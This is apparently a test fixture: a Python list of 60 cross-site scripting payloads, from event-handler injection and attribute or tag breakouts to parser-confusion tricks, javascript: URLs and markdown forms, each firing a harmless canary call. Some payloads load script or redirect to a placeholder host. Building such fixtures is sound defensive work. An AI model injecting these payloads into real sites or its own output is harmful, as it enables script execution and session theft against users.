"""60 texts, each of which runs, or leaves a mark, on a page that takes it for more than text."""

RUN = "__ran(1)"
PAYLOADS = [
    # Markup whose handler runs by itself.
    f"<img src=x onerror={RUN}>", f"<img/src=x/onerror={RUN}>", f"<IMG SRC=x OnErRoR={RUN}>", f"<img src=x onerror\n=\n{RUN}>",
    f"<svg onload={RUN}>", f"<svg/onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set onbegin={RUN} attributename=x>", f"<body onload={RUN}>", f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>", f"<textarea autofocus onfocus={RUN}>", f"<details open ontoggle={RUN}>", f"<marquee onstart={RUN}>",
    f"<video><source onerror={RUN}></video>", f"<video src=x onerror={RUN}></video>", f"<audio src=x onerror={RUN}></audio>",
    f"<iframe onload={RUN}></iframe>", f"<object data=x onerror={RUN}></object>", f"<script>{RUN}</script>", f"<script src=http://canary.invalid/x.js></script>",
    f"<style onload={RUN}></style>", f"<link rel=stylesheet href=http://canary.invalid/x.css onerror={RUN}>",
    # Out of an attribute, an element, a comment, a script or a style.
    f"\"><img src=x onerror={RUN}>", f"'><img src=x onerror={RUN}>", f"`><img src=x onerror={RUN}>", f"\" onmouseover={RUN} data-hostile=\"",
    f"' autofocus onfocus={RUN} data-hostile='", f"</title><img src=x onerror={RUN}>", f"</textarea><img src=x onerror={RUN}>", f"</script><script>{RUN}</script>",
    f"</style><img src=x onerror={RUN}>", f"--><img src=x onerror={RUN}>", f"]]><img src=x onerror={RUN}>", f"</noscript><img src=x onerror={RUN}>",
    f"';{RUN};//", f"\";{RUN};//", f"${{{RUN}}}", f"{{{{constructor.constructor('{RUN}')()}}}}",
    # Parsers that disagree, and forms of escaping that are undone once too often.
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={RUN}&gt;\">", f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    f"&lt;img src=x onerror={RUN}&gt;", f"\\u003cimg src=x onerror={RUN}\\u003e", f"%3Cimg src=x onerror={RUN}%3E", f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    # Addresses.
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"data:text/html,<script>parent.{RUN}</script>", f"vbscript:{RUN}",
    f"<a href=javascript:{RUN} data-hostile>click</a>", f"<form action=javascript:{RUN}><button data-hostile>", f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<iframe srcdoc=\"<script>parent.{RUN}</script>\"></iframe>", f"<base href=http://canary.invalid/>", f"<meta http-equiv=refresh content=\"0;url=http://canary.invalid/\">",
    # As a model may write it.
    f"[read](javascript:{RUN})", f"![look](x\" onerror={RUN} data-hostile=\")", f"<x-ran data-hostile style=\"background:url(http://canary.invalid/y)\">{RUN}</x-ran>",
]
assert len(PAYLOADS) == 60 == len(set(PAYLOADS)), len(PAYLOADS)
